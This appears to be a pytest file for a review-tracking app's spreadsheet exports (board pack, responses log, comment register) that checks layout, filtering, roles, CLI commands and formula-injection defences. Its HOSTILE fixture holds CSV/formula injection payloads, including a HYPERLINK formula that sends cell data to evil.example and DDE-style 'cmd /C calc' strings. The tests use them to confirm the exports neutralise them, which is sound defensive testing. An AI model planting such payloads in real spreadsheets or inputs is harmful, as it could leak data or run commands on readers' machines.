"""The exports: the board pack, a reviewer's responses log, the comment register (xlsx and
CSV), their download routes and CLI commands, and formula injection in every one of them.

The service tests run in the test's own app context (`app_context`); the route and CLI tests
read the database in `with app.app_context():` blocks closed before each request or command.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from reviewtracker.extensions import db
from reviewtracker.models import Comment, Organisation
from reviewtracker.services import ServiceError, spreadsheet
from reviewtracker.services.board_pack import board_pack
from reviewtracker.services.bulk_triage import bulk_triage
from reviewtracker.services.comment_choices import filter_from_names
from reviewtracker.services.comment_filter import CommentFilter
from reviewtracker.services.comment_register import comment_register, comment_register_csv
from reviewtracker.services.formula_safety import FORMULA_TRIGGERS
from reviewtracker.services.organisations import organisation_by_name
from reviewtracker.services.publishing import publish
from reviewtracker.services.responses_log import responses_log
from reviewtracker.services.scope import Scope

from .dashboard_data import DEMO_MONTH, add_comment
from .demo_copy import load_demo_copy

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
STAFF = Scope.staff()
in_context = pytest.mark.usefixtures("app_context")
# Text that would run if a spreadsheet took it for a formula.
HOSTILE = {
    "text": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "proposed_change": "+cmd|' /C calc'!A0",
    "response": "@SUM(1+1)*cmd|' /C calc'!A0",
    "section": "-2+3",
    "reviewer": "\t=1+1",
    "action_owner": "\r=1+1",
}


@pytest.fixture
def demo(app, tmp_path_factory):
    load_demo_copy(app, tmp_path_factory)


def workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def sheet_xml(data: bytes) -> dict[str, str]:
    """Every worksheet's XML in the saved file, by its part name."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {
            name: package.read(name).decode()
            for name in package.namelist()
            if name.startswith("xl/worksheets/sheet")
        }


def all_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return "".join(package.read(name).decode() for name in package.namelist())


def organisation_id(name: str) -> int:
    return db.session.scalar(select(Organisation.id).where(Organisation.name == name))


# --- the board pack -------------------------------------------------------------------------


@in_context
def test_board_pack_is_laid_out_as_the_pack(demo):
    book = workbook(board_pack("1", month=DEMO_MONTH))
    assert book.sheetnames == [
        "Comment status",
        "Constituencies",
        "Design dashboard",
        "Progress",
        "Status definitions",
        "Actions",  # the advisory group's logs (test_governance_pages.py checks their content)
        "Decisions",
        "Dissensus log",
        "Engagement R1",  # tranche 1 has two review rounds in the demo: a sheet each
        "Engagement R2",
        "Design Artefact Tracker",
    ]
    # Engagement: the first review's 18 invited organisations, the 15 that commented on
    # tranche 1 with 707 comments in all.
    engagement = book["Engagement R1"]
    assert [c.value for c in engagement[3]][:5] == [
        "Constituency",
        "Organisation",
        "Invited",
        "Responded",
        "Comments",
    ]
    listed = [row for row in engagement.iter_rows(min_row=4, values_only=True) if row[1]]
    commented = [row for row in listed if row[4]]
    assert len(listed) == 18 and len(commented) == 15 and sum(row[4] for row in listed) == 707
    # The tracker: tranche 1's 30 artefacts in the register (5 + 16 + 6 + 3 per service, as the
    # design dashboard counts them; 23 of them have comments), BP004 among them.
    tracker = book["Design Artefact Tracker"]
    references = [row[3] for row in tracker.iter_rows(min_row=4, values_only=True)]
    assert len(references) == 30 and "BP004" in references
    status = book["Comment status"]
    assert [c.value for c in status[3]] == [
        "Design Artefacts",
        "Accepted",
        "Action",
        "Rejected",
        "Requires Further Clarification",
        "Total",
    ]
    assert all(c.font.bold for c in status[3])
    assert [c.value for c in status[4]] == ["BP004- Data Collection", 36, 13, 4, 1, 54]
    assert [c.value for c in status[5]] == ["BP005- Data Processing", 25, 16, 4, None, 45]
    grand = status[4 + 23]
    assert [c.value for c in grand] == ["Grand Total", 446, 187, 44, 30, 707]
    assert all(c.font.bold for c in grand)
    assert not status["A4"].font.bold
    assert status.freeze_panes == "B4"
    assert status.column_dimensions["A"].width >= 40
    assert status["A1"].value.endswith("Tranche 1")

    constituencies = book["Constituencies"]
    rows = [tuple(c.value for c in row) for row in constituencies.iter_rows(min_row=3)]
    assert rows[0] == ("Constituency", "No. Organisations", "Total Comments")
    assert len(rows) == 1 + 13 + 1
    assert rows[8:14] == [
        ("Central Systems Provider- Smart DCC", 0, 0),
        ("National Grid ESO", 0, 0),
        ("Supplier Agent", 0, 0),
        ("Supplier- Small", 0, 0),
        ("Supplier- Medium", 0, 0),
        ("Supplier- I&C", 0, 0),
    ]
    assert rows[-1] == ("Total", 15, 707)
    assert all(c.font.bold for c in constituencies[constituencies.max_row])
    assert constituencies.freeze_panes == "A4"

    definitions = book["Status definitions"]
    assert {
        definitions.cell(row, 1).value: definitions.cell(row, 2).value for row in range(4, 9)
    } == {
        "Accepted": "Comments are agreed and documents have been updated to reflect the changes.",
        "Action": "Further discussions at sub group level or future actions are required in "
        "order for the changes to be incorporated into the design.",
        "Rejected": "Comments have been reviewed and considered and the programme team have "
        "confirmed that changes will not be incorporated into the design.",
        "Requires Further Clarification": "Further information is required before a decision "
        "can be taken to accept the change into the design.",
        "Open": "Not triaged yet.",
    }
    assert definitions["B4"].alignment.wrap_text
    # The pack counts the design team's dispositions, published or not, and says so.
    assert definitions["A10"].value == "Counted as"
    assert "not yet published to the reviewer" in definitions["B10"].value


@in_context
def test_board_pack_design_dashboard_has_the_rag_colours_and_a_legend(demo):
    sheet = workbook(board_pack("1", month=DEMO_MONTH))["Design dashboard"]
    assert sheet["A1"].value == "MHHS Design Dashboard- April 2022"
    assert [c.value for c in sheet[3]][:4] == ["Tranche", "MHHS Service", "Artefacts", "RAG"]
    assert [c.value for c in sheet[4]][3:5] == ["Last month", "This month"]
    assert "D3:E3" in {str(r) for r in sheet.merged_cells.ranges}
    assert sheet.freeze_panes == "C5"
    rows = {(row[0].value, row[1].value): row for row in sheet.iter_rows(min_row=5) if row[1].value}
    lss = rows[("1", "Load Shaping Service")]
    assert lss[2].value == 5
    for cell, label, colour in ((lss[3], "On track", "2E8540"), (lss[4], "At risk", "F0A202")):
        assert cell.value == label
        assert cell.fill.fgColor.rgb.endswith(colour)
    assert "High levels of comments in first review" in lss[7].value
    assert lss[7].alignment.wrap_text
    legend = [row for row in sheet.iter_rows() if row[0].value == "Legend"]
    assert legend, "no legend below the table"
    start = legend[0][0].row + 1
    rags = {
        "On track": "2E8540",
        "At risk": "F0A202",
        "Not on track / high risk": "C62828",
        "Complete": "1F6FB2",
        "To be determined": "8C96A0",
    }
    labelled = [sheet.cell(start + i, 1) for i in range(len(rags) + 1)]
    assert [c.value for c in labelled] == [*rags, None]
    for cell, colour in zip(labelled, rags.values(), strict=False):
        assert cell.fill.fgColor.rgb.endswith(colour)
    # Beside each, what it means.
    assert sheet.cell(start, 2).value == "On schedule for the planned DAG month."


@in_context
def test_board_pack_chart_uses_the_pages_colours(demo):
    data = board_pack("2", month=DEMO_MONTH)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        charts = [package.read(n).decode() for n in package.namelist() if "charts/chart" in n]
    assert len(charts) == 1
    colours = re.findall(r'<a:srgbClr val="([0-9A-F]{6})"', charts[0])
    # Tranche 2 has open comments: all five, in the page's colours.
    assert set(colours) == {"009E73", "E69F00", "D55E00", "56B4E9", "BBBBBB"}
    header = [c.value for c in workbook(data)["Comment status"][3]]
    assert "Open" in header


@in_context
def test_board_pack_of_a_tranche_without_comments():
    data = board_pack("TBC")
    book = workbook(data)
    status = book["Comment status"]
    assert [c.value for c in status[4]] == ["Grand Total", 0, 0, 0, 0, 0]
    assert not [n for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if "chart" in n]
    constituencies = book["Constituencies"]
    assert [c.value for c in constituencies[constituencies.max_row]] == ["Total", 0, 0]


@in_context
def test_board_pack_refuses_an_unknown_tranche_or_month():
    with pytest.raises(ServiceError, match="unknown tranche"):
        board_pack("9")
    with pytest.raises(ServiceError, match="YYYY-MM"):
        board_pack("1", month="April")


# --- formula injection ------------------------------------------------------------------------


def hostile_comment(**extra) -> Comment:
    return add_comment(
        "BP004",
        HOSTILE["text"],
        **{k: v for k, v in HOSTILE.items() if k != "text"},
        **extra,
    )


@in_context
def test_xlsx_exports_never_write_a_formula():
    comment = hostile_comment(disposition="action")
    from reviewtracker.models import Artefact

    db.session.get(Artefact, comment.artefact_id).title = "=1+1 title"
    db.session.commit()
    # Published, so that the responses log (what the organisation reads) holds its response.
    bulk_triage([comment.id], None, {"response_state": "approved"}, "lead", may_approve=True)
    publish([comment.id], None, "lead")
    db.session.commit()
    exports = {
        "register": comment_register(CommentFilter(scope=STAFF)),
        "responses": responses_log(comment.organisation_id, STAFF),
        "board pack": board_pack("1"),
    }
    for name, data in exports.items():
        for part, xml in sheet_xml(data).items():
            assert "<f>" not in xml and "<f " not in xml, f"{name} {part} has a formula"
    # Read back: the exact text, as string cells, with Excel's quote prefix.
    register = workbook(exports["register"]).active
    header = [c.value for c in register[1]]
    row = {label: register.cell(2, i + 1) for i, label in enumerate(header)}
    for label, field in (
        ("Reviewer Comment", "text"),
        ("Proposed Change", "proposed_change"),
        ("Response", "response"),
        ("Section", "section"),
        ("Reviewer", "reviewer"),
        ("Action Owner", "action_owner"),
    ):
        cell = row[label]
        # (XML reads a carriage return back as a line feed.)
        assert cell.value == HOSTILE[field].replace("\r", "\n"), label
        assert cell.data_type == "s" and cell.quotePrefix, label
    assert row["Artefact Title"].value == "=1+1 title"
    responses = workbook(exports["responses"]).active
    texts = [c.value for row in responses.iter_rows() for c in row]
    assert HOSTILE["text"] in texts and HOSTILE["response"] in texts
    pack = workbook(exports["board pack"])["Comment status"]
    assert pack["A4"].value == "BP004- =1+1 title"  # starts with the reference: plain text


@in_context
def test_every_formula_trigger_is_neutralised_in_csv():
    hostile_comment()
    data = comment_register_csv(CommentFilter(scope=STAFF))
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads it as UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1
    row = rows[0]
    assert row["Reviewer Comment"] == "'" + HOSTILE["text"]
    assert row["Proposed Change"] == "'" + HOSTILE["proposed_change"]
    assert row["Response"] == "'" + HOSTILE["response"]
    assert row["Section"] == "'" + HOSTILE["section"]
    assert row["Reviewer"] == "'" + HOSTILE["reviewer"]
    assert row["Action Owner"] == "'" + HOSTILE["action_owner"]
    for value in row.values():
        assert not value.startswith(FORMULA_TRIGGERS), value
    assert row["Organisation"] == "Acme Energy"  # ordinary text untouched


@in_context
def test_unicode_and_control_characters_survive():
    add_comment("BP004", "Ünïcödé — “quotes” £ \x0b vertical tab")
    data = comment_register(CommentFilter(scope=STAFF))
    assert workbook(data).active["P2"].value == "Ünïcödé — “quotes” £  vertical tab"
    text = comment_register_csv(CommentFilter(scope=STAFF)).decode("utf-8-sig")
    assert "Ünïcödé — “quotes” £" in text


# --- responses log --------------------------------------------------------------------------


@in_context
def test_responses_log_has_only_that_organisations_comments_and_no_internal_notes(demo):
    elexon = organisation_id("Elexon")
    notes = db.session.scalars(
        select(Comment).where(
            Comment.organisation_id.in_([elexon, organisation_id("Harbour Networks")])
        )
    ).all()
    for comment in notes:
        comment.internal_note = f"SECRET-NOTE-{comment.id}"
    db.session.commit()
    data = responses_log(elexon, STAFF)
    assert "SECRET-NOTE" not in all_xml(data)
    sheet = workbook(data).active
    assert sheet["A1"].value == "Responses to the comments of Elexon"
    header = [c.value for c in sheet[4]]
    assert header == [
        "Tranche",
        "Review Round",
        "Design Artefact",
        "Artefact Title",
        "Comment ID",
        "Section",
        "Page",
        "Comment",
        "Proposed Change",
        "Disposition",
        "Response",
    ]
    assert sheet.freeze_panes == "A5"
    rows = [
        dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=5, values_only=True)
    ]
    expected = db.session.execute(
        select(Comment.text, Comment.response).where(Comment.organisation_id == elexon)
    ).all()
    assert len(rows) == len(expected) > 100
    assert sorted((r["Comment"], r["Response"] or "") for r in rows) == sorted(
        (text, response or "") for text, response in expected
    )
    assert {r["Disposition"] for r in rows} <= {
        "Accepted",
        "Action",
        "Rejected",
        "Requires Further Clarification",
        "Under consideration",
    }
    others = db.session.scalar(
        select(func.count()).where(Comment.organisation_id != elexon).select_from(Comment)
    )
    assert others > 0 and len(rows) < 707 + 240


def test_responses_route_and_unknown_organisation(app, demo, client, login):
    login("viewer")
    with app.app_context():
        elexon = organisation_id("Elexon")
    response = client.get(f"/exports/responses/{elexon}.xlsx")
    assert response.status_code == 200 and response.mimetype == XLSX
    assert "filename=responses-elexon.xlsx" in response.headers["Content-Disposition"]
    assert client.get("/exports/responses/99999.xlsx").status_code == 404


@in_context
def test_organisations_are_found_by_folded_name(demo):
    assert organisation_by_name("  ELEXON ").name == "Elexon"
    assert organisation_by_name("harbour   networks").name == "Harbour Networks"
    with pytest.raises(ServiceError, match="no organisation called 'Elexxon'.*'Elexon'"):
        organisation_by_name("Elexxon")


# --- the comment register ---------------------------------------------------------------------


@in_context
def test_comment_register_is_the_list_filtered(demo):
    f = CommentFilter(tranche="1", disposition="rejected", sort="organisation", scope=STAFF)
    sheet = workbook(comment_register(f)).active
    header = [c.value for c in sheet[1]]
    assert sheet.freeze_panes == "A2" and all(c.font.bold for c in sheet[1])
    ids = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(ids) == len(set(ids)) == 44  # tranche 1's rejected comments, each once
    rows = [
        dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)
    ]
    assert {row["Disposition"] for row in rows} == {"Rejected"}
    assert {row["Tranche"] for row in rows} == {"1"}
    assert "Internal Note" not in header
    text = comment_register_csv(f).decode("utf-8-sig")
    csv_rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [int(row["Comment"]) for row in csv_rows] == ids
    assert [row["Reviewer Comment"] for row in csv_rows] == [
        row["Reviewer Comment"] for row in rows
    ]


# Six comments whose every order is known: (artefact, organisation, disposition, last change).
# The organisation sort is by the folded name: "bright grid" between "Acme" and "Northern".
ORDERED = {
    "one": ("IF005", "Northern Meters", "rejected", datetime(2024, 3, 1, 9)),
    "two": ("BP004", "bright grid", "action", datetime(2024, 3, 5, 9)),
    "three": ("BP005", "Acme Energy", "rejected", datetime(2024, 3, 3, 9)),
    "four": ("BP004", "Northern Meters", "accepted", datetime(2024, 3, 5, 9)),
    "five": ("BP004", "Acme Energy", "open", datetime(2024, 3, 2, 9)),
    "six": ("BP005", "bright grid", "clarification", datetime(2024, 3, 4, 9)),
}


@in_context
@pytest.mark.parametrize(
    ("parts", "expected"),
    [
        # By artefact reference, then by id (the order they were added).
        ({"sort": "artefact"}, ["two", "four", "five", "three", "six", "one"]),
        # By the folded organisation name, then by id.
        ({"sort": "organisation"}, ["three", "five", "two", "six", "one", "four"]),
        # Accepted, action, rejected, clarification, open; then by id.
        ({"sort": "disposition"}, ["four", "two", "one", "three", "six", "five"]),
        # Newest change first; "two" and "four" changed at once: the later id first.
        ({"sort": "changed"}, ["four", "two", "six", "three", "five", "one"]),
        # The filter narrows, the order stays.
        ({"disposition": "rejected", "sort": "organisation"}, ["three", "one"]),
        ({"artefact": "BP004", "sort": "organisation"}, ["five", "two", "four"]),
    ],
    ids=["artefact", "organisation", "disposition", "changed", "rejected", "bp004"],
)
def test_comment_register_rows_are_in_the_lists_order(parts, expected):
    for text, (artefact, organisation, disposition, changed) in ORDERED.items():
        add_comment(
            artefact, text, organisation=organisation, disposition=disposition, updated_at=changed
        )
    f = CommentFilter(tranche="1", scope=STAFF, **parts)
    sheet = workbook(comment_register(f)).active
    column = [c.value for c in sheet[1]].index("Reviewer Comment")
    assert [row[column] for row in sheet.iter_rows(min_row=2, values_only=True)] == expected
    csv_rows = csv.DictReader(io.StringIO(comment_register_csv(f).decode("utf-8-sig")))
    assert [row["Reviewer Comment"] for row in csv_rows] == expected


def test_register_downloads_follow_the_list_filter_and_role(app, demo, client, login):
    with app.app_context():
        comment_id = db.session.scalar(select(Comment.id).order_by(Comment.id).limit(1))
        db.session.get(Comment, comment_id).internal_note = "INTERNAL-ONLY"
        db.session.commit()
    login("viewer")
    response = client.get("/exports/comments.xlsx?tranche=1&artefact=BP004&disposition=action")
    assert response.status_code == 200 and response.mimetype == XLSX
    assert "comments-tranche-1-bp004-action.xlsx" in response.headers["Content-Disposition"]
    assert workbook(response.data).active.max_row == 1 + 13
    response = client.get("/exports/comments.csv?tranche=1&constituency=1")
    assert response.mimetype == "text/csv" and response.data.startswith(b"\xef\xbb\xbf")
    assert "INTERNAL-ONLY" not in client.get("/exports/comments.csv").get_data(as_text=True)


def test_triagers_get_the_internal_notes(app, demo, client, login):
    with app.app_context():
        comment_id = db.session.scalar(select(Comment.id).order_by(Comment.id).limit(1))
        db.session.get(Comment, comment_id).internal_note = "INTERNAL-ONLY"
        db.session.commit()
    login("triager")
    text = client.get("/exports/comments.csv").get_data(as_text=True)
    assert "Internal Note" in text.splitlines()[0] and "INTERNAL-ONLY" in text


def test_board_pack_route(demo, client, login):
    login("viewer")
    response = client.get(f"/exports/board-pack.xlsx?tranche=1&round=1&month={DEMO_MONTH}")
    assert response.status_code == 200 and response.mimetype == XLSX
    disposition = response.headers["Content-Disposition"]
    assert "board-pack-tranche-1-round-1-2022-04.xlsx" in disposition
    assert workbook(response.data)["Comment status"]["F27"].value == 707
    assert client.get("/exports/board-pack.xlsx?tranche=9").status_code == 404
    assert client.get("/exports/board-pack.xlsx").status_code == 400
    assert client.get("/exports/board-pack.xlsx?tranche=1&month=April").status_code == 400
    assert client.get("/exports/board-pack.xlsx?tranche=1&round=x").status_code == 400


@in_context
def test_filter_from_names(demo):
    f = filter_from_names(
        STAFF,
        tranche="1",
        artefact="MHHSP-BP004",
        organisation=" elexon",
        constituency="central systems provider - elexon",
        disposition="accepted",
        review_round=1,
    )
    assert f.artefact == "BP004" and f.review_round == 1 and f.disposition == "accepted"
    assert f.organisation_id == organisation_id("Elexon") and f.constituency_id
    with pytest.raises(ServiceError, match="not an artefact reference"):
        filter_from_names(STAFF, artefact="nonsense")
    with pytest.raises(ServiceError, match="no constituency called"):
        filter_from_names(STAFF, constituency="Martians")


# --- the command line -------------------------------------------------------------------------


def test_cli_exports_write_files(app, demo, runner, tmp_path):
    pack = tmp_path / "pack.xlsx"
    result = runner.invoke(
        args=["export", "board-pack", "--tranche", "1", "--month", DEMO_MONTH, "-o", str(pack)]
    )
    assert result.exit_code == 0, result.output
    assert workbook(pack.read_bytes())["Comment status"]["F27"].value == 707

    responses = tmp_path / "elexon.xlsx"
    result = runner.invoke(
        args=["export", "responses", "--organisation", "  ELEXON ", "-o", str(responses)]
    )
    assert result.exit_code == 0, result.output
    assert workbook(responses.read_bytes()).active["A1"].value.endswith("of Elexon")

    register = tmp_path / "rejected.csv"
    args = ["export", "comments", "--tranche", "1", "--disposition", "rejected"]
    result = runner.invoke(args=[*args, "-o", str(register)])
    assert result.exit_code == 0, result.output
    assert register.read_bytes().startswith(b"\xef\xbb\xbf")
    assert len(register.read_text(encoding="utf-8-sig").splitlines()) == 1 + 44
    xlsx = tmp_path / "bp004.xlsx"
    args = ["export", "comments", "--artefact", "BP-004", "--organisation", "elexon"]
    result = runner.invoke(args=[*args, "-o", str(xlsx)])
    assert result.exit_code == 0, result.output
    with app.app_context():
        count = db.session.scalar(
            select(func.count())
            .select_from(Comment)
            .where(Comment.organisation_id == organisation_id("Elexon"))
            .where(Comment.artefact.has(reference="BP004"))
        )
    assert workbook(xlsx.read_bytes()).active.max_row == 1 + count


def test_cli_refuses_unknown_names_and_formats(demo, runner, tmp_path):
    out = tmp_path / "x.xlsx"
    result = runner.invoke(
        args=["export", "responses", "--organisation", "Nobody Ltd", "-o", str(out)]
    )
    assert result.exit_code != 0
    assert "no organisation called 'Nobody Ltd'" in result.output
    assert not out.exists()
    result = runner.invoke(
        args=["export", "comments", "--constituency", "Martians", "-o", str(out)]
    )
    assert result.exit_code != 0 and "no constituency called 'Martians'" in result.output
    result = runner.invoke(args=["export", "comments", "-o", str(tmp_path / "x.txt")])
    assert result.exit_code != 0 and "must end in .xlsx or .csv" in result.output
    result = runner.invoke(
        args=["export", "board-pack", "--tranche", "1", "--month", "April", "-o", str(out)]
    )
    assert result.exit_code != 0 and "YYYY-MM" in result.output
    assert not out.exists()


def test_cli_export_help(runner):
    result = runner.invoke(args=["export", "--help"])
    assert result.exit_code == 0
    for command in ("board-pack", "responses", "comments"):
        assert command in result.output
        help_text = runner.invoke(args=["export", command, "--help"])
        assert help_text.exit_code == 0 and "--output" in help_text.output


def test_plain_values_skip_the_cell_object_but_formulas_and_bad_text_never_do():
    """The register passes plain values to openpyxl as they are (a cell object per value was a
    third of a large export's time); anything a spreadsheet would run, or that xlsx cannot
    hold, still goes through the one cell helper."""
    from datetime import date

    from openpyxl import Workbook
    from openpyxl.cell.cell import Cell

    sheet = Workbook(write_only=True).create_sheet("x")
    for plain in (None, 3, 2.5, "BP004", "Elexon", date(2024, 3, 8), datetime(2024, 3, 8, 9)):
        assert spreadsheet.xlsx_value(sheet, plain) == plain
    for risky in ("=HYPERLINK(1)", "+44 1234", "-1", "@SUM(A1)", "bell\x07", "x" * 40_000):
        cell = spreadsheet.xlsx_value(sheet, risky)
        assert isinstance(cell, Cell) and cell.data_type == "s"
    assert spreadsheet.xlsx_value(sheet, "=1").quotePrefix
